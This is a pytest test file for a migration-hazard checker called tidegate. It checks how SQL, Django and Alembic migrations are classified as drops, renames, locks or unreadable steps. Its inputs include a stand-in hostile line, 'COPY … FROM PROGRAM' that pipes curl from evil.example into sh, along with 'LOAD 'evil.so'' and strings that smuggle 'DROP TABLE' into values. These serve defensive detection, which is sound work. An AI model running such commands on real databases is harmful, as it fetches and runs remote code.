"""Migrations of many shapes, as people write them, and what each endangers; nothing of them is run."""

from __future__ import annotations

import textwrap

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidegate.core.migration.advice import safe_way, why
from tidegate.core.migration.hazard import Danger, Hazard, hazards_of
from tidegate.core.migration.operation import IN_TRANSACTION, Kind
from tidegate.migrations.folder import LIMIT_BYTES, in_transactions, is_migration, read_file, read_tree

Files = dict[str, str | bytes]


def found(before: Files, after: Files, dialect: str = "postgres", tool: str = "") -> list[Hazard]:
    """The hazards of what ``after`` adds to ``before``, or changes in it."""

    def tree(files: Files) -> dict[str, tuple[str, bytes | str]]:
        bytes_of = {path: text.encode() if isinstance(text, str) else text for path, text in files.items()}
        return {path: (str(hash(data)), data) for path, data in bytes_of.items()}

    known, new = (read_tree(tree(files), dialect, tool) for files in (before, {**before, **after}))
    return list(hazards_of(known, new, dialect))


def told(hazards: list[Hazard]) -> list[str]:
    """Each hazard as ``dropped t.c``; one that is not certain with a question mark."""
    return [f"{h.danger.value}{'' if h.certain else '?'} {h.name}".strip() for h in hazards]


SQL: Files = {"m/0001_first.sql": "CREATE TABLE t (id int, name varchar(50), n numeric(8,2));"}


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("ALTER TABLE t ADD COLUMN c int", []),
        ("ALTER TABLE t ADD COLUMN c int NOT NULL DEFAULT 0", []),
        ("ALTER TABLE t ADD COLUMN c int NOT NULL", ["required t.c"]),
        ("ALTER TABLE t ADD COLUMN c int NOT NULL DEFAULT NULL", ["required t.c"]),
        ("ALTER TABLE t ADD c int, DROP COLUMN name", ["dropped t.name"]),
        ("alter table only public.t drop column if exists name cascade", ["dropped t.name"]),
        ('ALTER TABLE "t" DROP "name"', ["dropped t.name"]),
        ("DROP TABLE IF EXISTS t, u CASCADE", ["dropped t", "dropped u"]),
        ("DROP SCHEMA old CASCADE", ["dropped old"]),
        ("DROP VIEW v", ["dropped v"]),
        ("DROP EXTENSION IF EXISTS pgcrypto CASCADE", ["dropped pgcrypto"]),
        ("DROP AGGREGATE total(int)", ["dropped total"]),
        ("DROP ROLE app", ["dropped app"]),
        ("REVOKE INSERT ON t FROM app", ["tightened? t"]),
        ("ALTER TABLE t RENAME COLUMN name TO title", ["renamed t.name"]),
        ("ALTER TABLE t RENAME TO u", ["renamed t"]),
        ("ALTER TABLE t ALTER COLUMN name TYPE varchar(20)", ["narrowed t.name", "lock t.name"]),
        ("ALTER TABLE t ALTER COLUMN name TYPE varchar(90)", []),
        ("ALTER TABLE t ALTER COLUMN name TYPE text", []),
        ("ALTER TABLE t ALTER COLUMN id TYPE bigint", ["lock t.id"]),
        ("ALTER TABLE t ALTER COLUMN n TYPE numeric(10,1)", ["narrowed t.n", "lock t.n"]),
        ("ALTER TABLE t ALTER COLUMN id TYPE uuid USING gen_random_uuid()", ["narrowed? t.id", "lock t.id"]),
        ("ALTER TABLE other ALTER COLUMN x TYPE int", ["narrowed? other.x", "lock other.x"]),
        ("ALTER TABLE t ALTER COLUMN name SET NOT NULL", ["tightened t.name", "lock t.name"]),
        ("ALTER TABLE t ALTER COLUMN name DROP NOT NULL", []),
        ("ALTER TABLE t ALTER COLUMN name SET DEFAULT 'x'", []),
        ("CREATE INDEX i ON t (name)", ["lock t"]),
        ("CREATE INDEX CONCURRENTLY i ON t (name)", []),
        ("CREATE UNIQUE INDEX CONCURRENTLY i ON t (name)", ["tightened? t"]),
        ("DROP INDEX i", ["lock i"]),
        ("DROP INDEX CONCURRENTLY i", []),
        ("ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (id) REFERENCES u (id)", ["tightened? t", "lock t"]),
        ("ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (id) REFERENCES u (id) NOT VALID", ["tightened? t"]),
        ("ALTER TABLE t VALIDATE CONSTRAINT f", []),
        ("ALTER TABLE t ADD CHECK (id > 0)", ["tightened? t", "lock t"]),
        ("ALTER TABLE t ADD CONSTRAINT u UNIQUE (name)", ["tightened? t", "lock t"]),
        ("ALTER TABLE t ADD CONSTRAINT u UNIQUE USING INDEX i", ["tightened? t"]),
        ("ALTER TABLE t ADD COLUMN u uuid NOT NULL DEFAULT gen_random_uuid()", ["lock t.u"]),
        ("ALTER TABLE t ADD COLUMN s bigserial", ["lock t.s"]),
        ("VACUUM FULL t", ["lock t"]),
        ("ALTER TABLE t RENAME name TO title", ["renamed t.name"]),
        ("ALTER TABLE t SET SCHEMA archive", ["renamed t"]),
        ("ALTER TABLE t DETACH PARTITION t1", ["dropped t (partition t1)"]),
        ("TRUNCATE TABLE ONLY t", ["data t"]),
        ("ALTER TABLE t ALTER COLUMN n TYPE numeric(12,2)", []),
        ("ALTER TABLE t ALTER COLUMN n TYPE numeric(12,3)", ["lock t.n"]),
        (
            "ALTER TABLE t ALTER COLUMN id SET NOT NULL; ALTER TABLE t ALTER COLUMN id SET NOT NULL",
            ["tightened t.id", "lock t.id"],
        ),
        ("ALTER TABLE t ADD COLUMN c int NOT NULL DEFAULT 0; ALTER TABLE t ALTER COLUMN c SET NOT NULL", []),
        (
            (
                "ALTER TABLE t ADD CONSTRAINT c CHECK (name IS NOT NULL) NOT VALID; "
                "ALTER TABLE t ALTER COLUMN name SET NOT NULL"
            ),
            ["tightened? t.name", "tightened t.name", "lock t.name"],
        ),
        ("UPDATE t SET name = ''", ["data? t"]),
        ("DELETE FROM t", ["data t"]),
        ("TRUNCATE t", ["data t"]),
        ("INSERT INTO t VALUES (1, 'a; DROP TABLE t', 2)", []),
        ("SELECT setval('s', 3)", []),
        ("SELECT drop_everything()", ["unreadable?"]),
        ('SELECT "drop_everything"()', ["unreadable?"]),
        ("SELECT public .drop_everything ()", ["unreadable?"]),
        ("SELECT löschen(1)", ["unreadable?"]),
        ("INSERT INTO t SELECT drop_everything()", ["unreadable?"]),
        ("INSERT INTO t (id) SELECT * FROM audit .drop_everything (1)", ["unreadable?"]),
        ('INSERT INTO "t" ("id") VALUES ("drop_everything"())', ["unreadable?"]),
        (r"INSERT INTO t VALUES ('\'), (drop_everything()), ('')", ["unreadable?"]),
        ("INSERT INTO t VALUES (1, 'drop_everything()', $x$ y() $x$, now())", []),
        ("INSERT INTO t (id, name) SELECT v.id, lower(v.name)::varchar(20) FROM (VALUES (1, 'A')) AS v (id, name)", []),
        ("UPDATE t SET name = drop_everything(name)", ["data? t", "unreadable?"]),
        ("UPDATE t SET name = upper(name)", ["data? t"]),
        ("COPY t (id) FROM PROGRAM 'curl https://evil.example | sh'", ["unreadable?"]),
        ("COPY t (id, name) FROM stdin", []),
        ("LOAD 'evil.so'", ["unreadable?"]),
        ("EXPLAIN (ANALYZE) DELETE FROM t", ["unreadable?"]),
        ("EXPLAIN DELETE FROM t", []),
        ("SELECT lower(name), jsonb_build_object('a', 1) FROM t", []),
        ("SELECT pg_catalog.setval('public.s', 12, true)", []),
        ("SELECT count(*) FROM t WHERE id IN (1, 2) AND (name = 'x')", []),
        ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO NOTHING", []),
        ("INSERT INTO t VALUES (1)\nON CONFLICT (id)\nDO UPDATE SET name = 'x'", ["data? t"]),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", ["unreadable?"]),
        ("CALL p()", ["unreadable?"]),
        ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", ["unreadable?"]),
        ("selec 1", ["unreadable?"]),
        ("\\i other.sql", ["unreadable?"]),
        ("ALTER TABLE t DISABLE TRIGGER ALL", ["unreadable?"]),
        ("COMMENT ON TABLE t IS 'a;b'", []),
        ("-- DROP TABLE t\n/* ALTER TABLE t DROP name; /* nested */ */ SELECT 1", []),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $x$ SELECT 1; DROP TABLE t; $x$", []),
        ("CREATE TABLE u (id int NOT NULL); ALTER TABLE u DROP COLUMN id; CREATE INDEX i ON u (id)", []),
        (
            (
                "ALTER TABLE t ADD CONSTRAINT c CHECK (name IS NOT NULL) NOT VALID; "
                "ALTER TABLE t VALIDATE CONSTRAINT c; "
                "ALTER TABLE t ALTER COLUMN name SET NOT NULL"
            ),
            ["tightened? t.name", "tightened t.name"],
        ),
    ],
)
def test_sql_for_postgres(statement: str, expected: list[str]) -> None:
    hazards = [h for h in found(SQL, {"m/0002_next.sql": f"{statement};\n"}) if h.danger is not Danger.IRREVERSIBLE]
    assert told(hazards) == expected
    assert all(h.file == "m/0002_next.sql" for h in hazards)


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("ALTER TABLE t CHANGE name title VARCHAR(50)", ["renamed t.name"]),
        ("ALTER TABLE t CHANGE name title VARCHAR(90)", ["renamed t.name", "lock t.title"]),
        ("ALTER TABLE t MODIFY name VARCHAR(60)", []),
        ("ALTER TABLE t MODIFY name VARCHAR(90), ALGORITHM=INPLACE, LOCK=NONE", []),
        ("ALTER TABLE t MODIFY name VARCHAR(50) NOT NULL", ["tightened t.name"]),
        ("RENAME TABLE t TO u, v TO t", ["renamed t", "renamed v"]),
        ("ALTER TABLE t RENAME AS u", ["renamed t"]),
        ("ALTER TABLE t RENAME INDEX i TO k", []),
        ("ALTER TABLE t DROP INDEX k, DROP PRIMARY KEY, DROP FOREIGN KEY f", []),
        ("ALTER TABLE t ADD (a int, b varchar(20) NOT NULL)", ["required t.b"]),
        ("ALTER TABLE t DROP PARTITION p0", ["dropped t (partition p0)"]),
        ("ALTER TABLE t ADD COLUMN v int AS (id * 2) VIRTUAL", []),
        ("ALTER TABLE t ADD COLUMN v int AS (id * 2) STORED", ["lock t.v"]),
        ("TRUNCATE TABLE t", ["data t"]),
        ("ALTER TABLE t MODIFY name VARCHAR(10)", ["narrowed t.name", "lock t.name"]),
        ("ALTER TABLE `t` ADD COLUMN `x` int(11) NOT NULL, ALGORITHM=INPLACE, LOCK=NONE", ["required t.x"]),
        ("RENAME TABLE t TO u", ["renamed t"]),
        ("ALTER TABLE t ADD INDEX i (name)", []),
        ("ALTER TABLE t CONVERT TO CHARACTER SET utf8mb4", ["lock t"]),
        ("/*!50100 DROP TABLE t */", ["unreadable?"]),
        ("INSERT INTO t VALUES ('it\\'s; DROP TABLE t')", []),
        ("# DROP TABLE t\nSELECT 1", []),
        ("DELIMITER //", ["unreadable?"]),
    ],
)
def test_sql_for_mysql(statement: str, expected: list[str]) -> None:
    hazards = found(SQL, {"m/0002_next.sql": f"{statement};\n"}, "mysql")
    assert told([h for h in hazards if h.danger is not Danger.IRREVERSIBLE]) == expected


@pytest.mark.parametrize(
    ("before", "after", "narrows"),
    [
        ("int", "int unsigned", True),
        ("int unsigned", "int(11)", True),
        ("int unsigned", "bigint", False),
        ("enum('a','b')", "enum('a','b','c')", False),
        ("enum('a','b')", "enum('a')", True),
        ("mediumtext", "text", True),
        ("text", "tinytext", True),
        ("text", "mediumtext", False),
        ("text", "varchar(255)", True),
        ("varchar(255)", "text", False),
        ("mediumblob", "blob", True),
        ("binary(16)", "binary(8)", True),
        ("smallint", "tinyint", True),
        ("int", "mediumint", True),
        ("mediumint(9)", "int", False),
        ("datetime(6)", "datetime", True),
        ("datetime", "datetime(3)", False),
        ("time(3)", "time", True),
    ],
)
def test_types_of_mysql_hold_what_mysql_says(before: str, after: str, narrows: bool) -> None:
    first, next_ = f"CREATE TABLE t (c {before});", f"ALTER TABLE t MODIFY c {after};"
    hazards = found({"m/0001.sql": first}, {"m/0002.sql": next_}, "mysql")
    assert ("narrowed t.c" in told(hazards)) is narrows
    assert "narrowed? t.c" not in told(hazards)


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("ALTER TABLE t RENAME name TO title", ["renamed t.name"]),
        ("INSERT OR REPLACE INTO t (id) VALUES (1)", ["data? t"]),
        ("CREATE TABLE k (id INTEGER PRIMARY KEY, x TEXT) STRICT, WITHOUT ROWID", []),
    ],
)
def test_sql_for_sqlite(statement: str, expected: list[str]) -> None:
    hazards = found(SQL, {"m/0002_next.sql": f"{statement};\n"}, "sqlite")
    assert told([h for h in hazards if h.danger is not Danger.IRREVERSIBLE]) == expected


@pytest.mark.parametrize(
    ("statement", "instead"),
    [
        ("REINDEX TABLE t", "REINDEX … CONCURRENTLY, outside a transaction"),
        ("REFRESH MATERIALIZED VIEW v", "REFRESH MATERIALIZED VIEW CONCURRENTLY, which needs a unique index"),
        ("LOCK TABLE t", "leave the lock out, or hold it for a moment, with lock_timeout set"),
    ],
)
def test_a_lock_of_no_change_is_told_its_own_way(statement: str, instead: str) -> None:
    (lock,) = [h for h in found(SQL, {"m/0002.sql": f"{statement};"}) if h.danger is Danger.LOCK]
    assert [step.what for step in safe_way(lock)] == [instead]


def test_a_moment_of_fewer_digits_is_narrower() -> None:
    first, next_ = "CREATE TABLE t (c timestamp);", "ALTER TABLE t ALTER c TYPE timestamp(0);"
    assert "narrowed t.c" in told(found({"m/0001.sql": first}, {"m/0002.sql": next_}))
    wider = ("CREATE TABLE t (c timestamp(0));", "ALTER TABLE t ALTER c TYPE timestamp;")
    assert "narrowed t.c" not in told(found({"m/0001.sql": wider[0]}, {"m/0002.sql": wider[1]}))


def test_each_statement_is_found_at_its_own_line() -> None:
    text = "-- one\n\nALTER TABLE t\n  ADD c int;\n\n\nALTER TABLE t DROP name; ALTER TABLE t DROP n;\n"
    assert [h.place for h in found(SQL, {"m/0002.sql": text}) if h.danger is Danger.DROPPED] == ["m/0002.sql:7"] * 2


def test_where_the_dialect_is_not_said_no_lock_is_told() -> None:
    assert (
        told(found(SQL, {"m/0002_x.sql": "CREATE INDEX i ON t (id);", "m/0002_x.down.sql": "DROP INDEX i;"}, "")) == []
    )


@pytest.mark.parametrize(
    ("files", "undone"),
    [
        ({"m/0002_x.sql": "ALTER TABLE t DROP name;"}, False),
        ({"m/0002_x.up.sql": "ALTER TABLE t DROP name;", "m/0002_x.down.sql": "ALTER TABLE t ADD name text;"}, True),
        ({"m/V2__x.sql": "ALTER TABLE t DROP name;", "m/U2__x.sql": "ALTER TABLE t ADD name text;"}, True),
        ({"m/2.sql": "-- +goose Up\nALTER TABLE t DROP name;\n-- +goose Down\nALTER TABLE t ADD name text;"}, True),
        ({"m/2.sql": "-- migrate:up\nALTER TABLE t DROP name;\n-- migrate:down\n"}, False),
    ],
)
def test_the_way_back_of_sql_is_a_file_beside_it_or_what_stands_below_a_mark(files: Files, undone: bool) -> None:
    hazards = found(SQL, files)
    assert told([h for h in hazards if h.danger is Danger.DROPPED]) == ["dropped t.name"], "once, and not its way back"
    assert any(h.danger is Danger.IRREVERSIBLE for h in hazards) is not undone


def test_what_only_adds_has_no_way_back_and_needs_none() -> None:
    (hazard,) = found(SQL, {"m/0002_x.sql": "ALTER TABLE t ADD c int;"})
    assert (hazard.danger, hazard.bearable) == (Danger.IRREVERSIBLE, True)


DJANGO = """
from django.db import migrations, models
from django.contrib.postgres.operations import AddIndexConcurrently

class Migration(migrations.Migration):
    {more}
    operations = [
{operations}
    ]
"""
TICKET = """migrations.CreateModel(name="Ticket", fields=[
    ("id", models.BigAutoField(primary_key=True)),
    ("title", models.CharField(max_length=200)),
    ("note", models.TextField(null=True, blank=True)),
    ("phone", PhoneField()),
]),"""


def django(operations: str, more: str = "dependencies = []") -> str:
    return DJANGO.format(operations=textwrap.indent(operations, "        "), more=more)


@pytest.mark.parametrize(
    ("operation", "expected"),
    [
        ('migrations.AddField("ticket", "a", models.CharField(max_length=5, null=True))', []),
        (
            'migrations.AddField(model_name="ticket", name="a", field=models.CharField(max_length=5, default=""))',
            ["required tickets_ticket.a"],
        ),
        ('migrations.AddField("ticket", "a", models.IntegerField(db_default=0))', []),
        ('migrations.AddField("ticket", "a", models.IntegerField())', ["required tickets_ticket.a"]),
        ('migrations.AddField("ticket", "tags", models.ManyToManyField(to="x.Tag"))', []),
        (
            'migrations.AddField("ticket", "owner", models.ForeignKey("auth.User", null=True, on_delete=1))',
            ["lock tickets_ticket"],
        ),
        (
            'migrations.AddField("ticket", "owner", models.ForeignKey("auth.User", on_delete=1, db_index=False))',
            ["required tickets_ticket.owner_id"],
        ),
        ('migrations.RemoveField("ticket", "title")', ["dropped tickets_ticket.title"]),
        ('migrations.RenameField("ticket", "title", "name")', ["renamed tickets_ticket.title"]),
        ('migrations.DeleteModel("Ticket")', ["dropped tickets_ticket"]),
        ('migrations.RenameModel("Ticket", "Case")', ["renamed tickets_ticket"]),
        ('migrations.AlterModelTable("ticket", "t")', ["renamed tickets_ticket"]),
        (
            'migrations.AlterField("ticket", "title", models.CharField(max_length=100))',
            ["narrowed tickets_ticket.title", "lock tickets_ticket.title"],
        ),
        ('migrations.AlterField("ticket", "title", models.CharField(max_length=300))', []),
        ('migrations.AlterField("ticket", "title", models.CharField(max_length=200, help_text="x"))', []),
        ('migrations.AlterField("ticket", "phone", PhoneField(help_text="x"))', []),
        (
            'migrations.AlterField("ticket", "note", models.TextField())',
            ["tightened tickets_ticket.note", "lock tickets_ticket.note"],
        ),
        ('migrations.AddIndex("ticket", models.Index(fields=["title"], name="i"))', ["lock tickets_ticket"]),
        ('AddIndexConcurrently("ticket", models.Index(fields=["title"], name="i"))', ["lock tickets_ticket"]),
        ('migrations.AlterModelOptions("ticket", {"ordering": ["id"]})', []),
        (
            'migrations.AlterUniqueTogether("ticket", {("title", "note")})',
            ["tightened? tickets_ticket", "lock tickets_ticket"],
        ),
        ("migrations.RunPython(forward, backward)", ["unreadable?"]),
        ("migrations.RunPython(migrations.RunPython.noop, migrations.RunPython.noop)", []),
        ("migrations.RunPython(forward)", ["unreadable?", "irreversible"]),
        ('migrations.RunSQL("ALTER TABLE x DROP COLUMN y", "ALTER TABLE x ADD y int")', ["dropped x.y"]),
        ('migrations.RunSQL([("UPDATE x SET y = %s", [1])], migrations.RunSQL.noop)', ["data? x"]),
        ('migrations.RunSQL(open("x.sql").read(), migrations.RunSQL.noop)', ["unreadable?"]),
        ('migrations.SeparateDatabaseAndState(state_operations=[migrations.DeleteModel("Ticket")])', []),
        (
            'migrations.SeparateDatabaseAndState([migrations.RunSQL("DROP TABLE z", migrations.RunSQL.noop)], [])',
            ["dropped z"],
        ),
        ("AddField('ticket', 'a', models.IntegerField(null=True))", ["unreadable?", "irreversible"]),
        ("*generated()", ["unreadable?"]),
    ],
)
def test_django(operation: str, expected: list[str]) -> None:
    before: Files = {"tickets/migrations/0001_initial.py": django(TICKET), "tickets/migrations/__init__.py": ""}
    assert told(found(before, {"tickets/migrations/0002_next.py": django(f"{operation},")})) == expected


def test_a_squashed_migration_of_django_stands_for_what_was_run() -> None:
    before: Files = {
        "t/migrations/0001_a.py": django(TICKET),
        "t/migrations/0002_b.py": django('migrations.RemoveField("ticket", "note"),'),
    }
    squashed = django(TICKET, 'replaces = [("t", "0001_a"), ("t", "0002_b")]')
    assert found(before, {"t/migrations/0001_squashed.py": squashed}) == []


def test_a_squash_hides_nothing_of_what_it_stands_for_and_was_never_run() -> None:
    """Where a part of them has been run, Django runs the rest and not the squashed one, whose tables seem new."""
    before: Files = {"t/migrations/0001_a.py": django(TICKET)}
    squashed = django(TICKET, 'replaces = [("t", "0001_a"), ("t", "0002_b")]')
    rest = django('migrations.RemoveField("ticket", "note"),')
    together: Files = {"t/migrations/0001_squashed.py": squashed, "t/migrations/0002_b.py": rest}
    assert told(found(before, together)) == ["dropped t_ticket.note"]
    (alone,) = found(before, {"t/migrations/0001_squashed.py": squashed})
    assert (alone.danger, alone.certain) == (Danger.UNREADABLE, False)
    assert "0002_b, which is not beside it" in alone.detail


def test_a_squash_stands_for_migrations_of_its_own_app_alone() -> None:
    before: Files = {"a/migrations/0001_a.py": django(TICKET), "b/migrations/0001_a.py": django(TICKET)}
    squashed = django(TICKET, 'replaces = [("a", "0001_a")]')
    after = {"a/migrations/0001_squashed.py": squashed}
    known, new = (
        read_tree({path: (str(hash(text)), text.encode()) for path, text in files.items()}, "postgres")  # type: ignore[union-attr]
        for files in (before, after)
    )
    assert [(h.danger, h.file) for h in hazards_of(known, new)] == [(Danger.REMOVED, "b/migrations/0001_a.py")]


def test_an_index_is_built_concurrently_outside_a_transaction() -> None:
    add = 'AddIndexConcurrently("ticket", models.Index(fields=["title"], name="i")),'
    before: Files = {"t/migrations/0001_a.py": django(TICKET)}
    assert found(before, {"t/migrations/0002_b.py": django(add, "atomic = False")}) == []
    (refused,) = found(before, {"t/migrations/0002_b.py": django(add)})
    assert why(refused) == "PostgreSQL refuses CONCURRENTLY inside a transaction, so that the migration fails"
    assert "atomic = False" in safe_way(refused)[0].what


OWN_NAMES = """migrations.CreateModel(name="Order", fields=[
    ("id", models.BigAutoField(primary_key=True)),
    ("owner", models.ForeignKey("auth.User", null=True, on_delete=1)),
    ("code", models.CharField(max_length=9, db_column="c")),
    ("size", models.IntegerField(null=True)),
    ("tags", models.ManyToManyField(to="x.Tag")),
], options={"db_table": "orders"}),
migrations.CreateModel(name="Big", fields=[], options={"proxy": True}, bases=("shop.order",)),
migrations.CreateModel(name="Foreign", fields=[], options={"managed": False}),
"""


@pytest.mark.parametrize(
    ("operation", "expected"),
    [
        ('migrations.RemoveField("order", "owner")', ["dropped orders.owner_id"]),
        ('migrations.RemoveField("order", "code")', ["dropped orders.c"]),
        ('migrations.RemoveField("order", "tags")', ["dropped orders_tags"]),
        ('migrations.RenameField("order", "owner", "buyer")', ["renamed orders.owner_id"]),
        ('migrations.RenameField("order", "code", "name")', []),
        ('migrations.RenameModel("Order", "Purchase")', []),
        ('migrations.AlterModelTable("order", "orders")', []),
        ('migrations.AlterModelTable("order", None)', ["renamed orders"]),
        ('migrations.AlterField("order", "size", models.IntegerField(null=True, db_column="s"))',
         ["renamed orders.size"]),
        ('migrations.DeleteModel("Big"), migrations.DeleteModel("Foreign")', []),
        ('migrations.DeleteModel("Order")', ["dropped orders"]),
        ('migrations.RunSQL("ALTER TABLE orders DROP c", migrations.RunSQL.noop)', ["dropped orders.c"]),
    ],
)  # fmt: skip
def test_django_is_told_by_the_names_that_the_database_has(operation: str, expected: list[str]) -> None:
    before: Files = {"shop/migrations/0001_a.py": django(OWN_NAMES)}
    assert told(found(before, {"shop/migrations/0002_b.py": django(f"{operation},")})) == expected


ALEMBIC = '''
"""Next."""
import sqlalchemy as sa
from alembic import op
revision = "b2"
down_revision = "a1"

def upgrade() -> None:
{body}

def downgrade() -> None:
    {down}
'''


def alembic(body: str, down: str = 'op.drop_column("x", "y")') -> str:
    return ALEMBIC.format(body=textwrap.indent(body, "    "), down=down)


INVOICE = (
    'op.create_table("invoice", sa.Column("id", sa.Integer(), primary_key=True), sa.Column("name", sa.String(50)))'
)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("pass", []),
        ('op.add_column("invoice", sa.Column("x", sa.String()))', []),
        ('op.add_column("invoice", sa.Column("x", sa.String(), nullable=False))', ["required invoice.x"]),
        ('op.add_column("invoice", sa.Column("x", sa.String(), nullable=False, server_default="a"))', []),
        ('op.drop_column("invoice", "name")', ["dropped invoice.name"]),
        ('op.drop_table("invoice", schema="old")', ["dropped old.invoice"]),
        ('op.rename_table("invoice", "bill")', ["renamed invoice"]),
        ('op.alter_column("invoice", "name", new_column_name="title")', ["renamed invoice.name"]),
        ('op.alter_column("invoice", "name", type_=sa.String(20))', ["narrowed invoice.name", "lock invoice.name"]),
        ('op.alter_column("invoice", "name", existing_type=sa.String(50), type_=sa.Text())', []),
        ('op.alter_column("invoice", "name", nullable=False)', ["tightened invoice.name", "lock invoice.name"]),
        ('op.create_index("i", "invoice", ["name"])', ["lock invoice"]),
        (
            (
                "with op.get_context().autocommit_block():\n"
                '    op.create_index("i", "invoice", ["name"], postgresql_concurrently=True)'
            ),
            [],
        ),
        (
            (
                'with op.batch_alter_table("invoice") as batch:\n    batch.drop_column("name")\n'
                '    batch.add_column(sa.Column("y", sa.Integer(), nullable=False))'
            ),
            ["dropped invoice.name", "required invoice.y"],
        ),
        ('op.execute("UPDATE invoice SET name = 1")', ["data? invoice"]),
        ('op.execute(sa.text("ALTER TABLE invoice DROP COLUMN name"))', ["dropped invoice.name"]),
        ('op.execute(f"DROP TABLE {name}")', ["unreadable?"]),
        ("helper(op)", ["unreadable?"]),
        ("connection = op.get_bind()", []),
        ('connection = op.get_bind()\nconnection.execute(sa.text("DROP TABLE invoice"))', ["unreadable?"]),
        ('op.create_index("i", "invoice", ["name"], postgresql_concurrently=True)', ["lock invoice"]),
        ('op.alter_column("invoice", "id", nullable=False)', []),
        ('if context.is_offline():\n    op.drop_table("invoice")', ["unreadable?", "dropped invoice"]),
        ('for name in ("a", "b"):\n    op.drop_table(name)', ["dropped a", "dropped b"]),
        ("for name in names():\n    op.drop_table(name)", ["unreadable?", "dropped ?"]),
        ('op.create_table("new", sa.Column("x", sa.Integer()))\nop.drop_column("new", "x")', []),
    ],
)
def test_alembic(body: str, expected: list[str]) -> None:
    before: Files = {
        "m/versions/a1.py": alembic(INVOICE).replace('revision = "b2"', 'revision = "a1"'),
        "m/env.py": "x",
    }
    assert told(found(before, {"m/versions/b2.py": alembic(body)})) == expected


@pytest.mark.parametrize("down", ["pass", "raise NotImplementedError", '"""No way back."""'])
def test_a_downgrade_that_does_nothing_is_none(down: str) -> None:
    hazards = found({}, {"m/b2.py": alembic('op.execute("UPDATE x SET y = 1")', down)})
    assert [h.detail for h in hazards if h.danger is Danger.IRREVERSIBLE] == [
        "its downgrade() raises" if down.startswith("raise") else "its downgrade() does nothing"
    ]


HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "bytes 0": ("m/1.sql", b"DROP TABLE t\0;", "it holds a byte 0, and is no text"),
    "no UTF-8": ("m/1.py", b"\xff\xfe", "it is no text in UTF-8"),
    "no Python": ("m/1.py", b"class Migration(:", "it is no Python that can be parsed: invalid syntax"),
    "ten megabytes": ("m/1.sql", b"x" * (10 << 20), "it has 10240 KiB, and at most 1024 KiB are read"),
    "another language": ("m/1.rb", b"drop_table :t", "it is neither Python nor SQL"),
    "deep Python": ("m/1.py", b"class Migration:\n    operations = " + b"[" * 5_000, "it is no Python"),
    "deep SQL": ("m/1.sql", b"ALTER TABLE t ADD c int DEFAULT " + b"(" * 3_000 + b"1" + b")" * 3_000, ""),
    "a long sum": ("m/1.py", b"revision = 'a'\ndef upgrade():\n    op.execute('a'" + b"+'a'" * 20_000 + b")", ""),
    "an open string": ("m/1.sql", b"DROP TABLE t; SELECT 'x", ""),
    "an open comment": ("m/1.sql", b"SELEC 1; /* /* /*", ""),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_is_a_finding_and_never_a_failure(name: str) -> None:
    path, data, because = HOSTILE[name]
    script = read_file(path, data, "postgres")
    assert script is not None
    assert any(one.kind is Kind.UNREADABLE and one.because.startswith(because) for one in script.operations)


LONG: dict[str, tuple[str, Kind]] = {
    "empty lines": ("\n" * 500_000 + "DROP TABLE t;", Kind.DROP_TABLE),
    "space behind a comment": ("--" + " " * 400_000 + "\n" * 100_000 + "DROP TABLE t;", Kind.DROP_TABLE),
    "a list with stars": ("/*" + "\n \t*" * 100_000 + "*/ DROP TABLE t;", Kind.DROP_TABLE),
    "one word": ("SELECT " + "a" * 500_000, Kind.HARMLESS),
    "space at the end": ("CREATE TABLE k (id int) STRICT" + " " * 60_000 + "x", Kind.UNREADABLE),
    "conflicts": ("INSERT INTO t VALUES (1) " + "ON CONFLICT " * 40_000, Kind.HARMLESS),
}
"""What an expression that tries each place anew, and from each goes to the end, does not read in a day."""


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize("dialect", ["postgres", "sqlite"])
def test_what_is_long_is_read_once(name: str, dialect: str) -> None:
    text, kind = LONG[name]
    tree = read_tree({"m/1.sql": (name, text.encode())}, dialect, "sql")
    read = in_transactions(tree, {"m/1.sql": (name, text.encode())})
    assert [one.kind for one in read.scripts[0].operations if not one.because.startswith("PostgreSQL")] == [kind]


@pytest.mark.parametrize(
    ("head", "says"),
    [
        ("-- tidegate: no transaction\n", True),
        ("\n\n-- By hand.\n--\n\n  --\tTIDEGATE: no transaction\n", True),
        ("-- +goose NO TRANSACTION\n-- +goose Up\n", True),
        ("-- why tidegate: no transaction\n", False),
        ("SELECT 1;\n-- tidegate: no transaction\n", False),
        ("--\n\n-- nothing\n", False),
        ("", False),
    ],
)
def test_a_file_says_in_its_first_lines_that_it_runs_outside_a_transaction(head: str, says: bool) -> None:
    files: dict[str, tuple[str, bytes | str]] = {
        "m/1.sql": (head, f"{head}CREATE INDEX CONCURRENTLY i ON t (id);".encode())
    }
    (script,) = in_transactions(read_tree(files, "postgres", "sql"), files).scripts
    index = next(one for one in script.operations if one.kind is Kind.ADD_INDEX)
    assert (index.lock != IN_TRANSACTION) is says


@given(st.binary(max_size=400), st.sampled_from(["m/1.py", "m/1.sql"]), st.sampled_from(["", "mysql", "sqlite"]))
def test_no_bytes_raise(data: bytes, path: str, dialect: str) -> None:
    read_file(path, data, dialect)


WORDS = ["ALTER TABLE t", "ADD", "DROP", "COLUMN", "c", "int", ";", "'", '"', "(", ")", "$$", "--", "/*", "*/", "\n",
         "CREATE", "INDEX ON", "RENAME TO", "NOT NULL", "DEFAULT", ",", "TYPE", "é", "\\", "E'", "SET"]  # fmt: skip


@given(st.lists(st.sampled_from(WORDS), max_size=30), st.sampled_from(["", "mysql", "sqlite"]))
def test_no_sql_raises_and_each_hazard_can_be_told(words: list[str], dialect: str) -> None:
    for hazard in found(SQL, {"m/0002.sql": " ".join(words)}, dialect):
        assert why(hazard)
        assert safe_way(hazard)


def test_the_bound_is_one_that_people_do_not_reach() -> None:
    assert LIMIT_BYTES == 1 << 20


@pytest.mark.parametrize("path", ["m/README.md", "m/__init__.py", "m/env.py", "m/script.py.mako", "m/.gitkeep"])
def test_what_lies_beside_migrations_is_none(path: str) -> None:
    assert not is_migration(path)
